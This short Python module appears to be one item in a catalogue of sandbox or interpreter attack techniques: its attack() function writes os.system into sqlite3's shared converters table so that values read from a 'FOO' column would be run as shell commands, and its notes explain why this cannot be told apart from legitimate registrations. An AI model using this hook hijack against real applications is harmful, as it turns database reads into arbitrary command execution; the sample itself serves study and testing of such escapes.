"""A function of C is written into the table of sqlite3's converters."""
CATEGORY = "callable"
REACH = "run"
NEEDS = ("sqlite3",)
BEYOND = """The table is a dictionary that all share, and an application may
have registered a function of C there itself (pickle.loads); nothing tells the
two apart."""

import os
import sqlite3

from . import payload


def attack():
    sqlite3.converters["FOO"] = os.system
    return payload.COMMAND
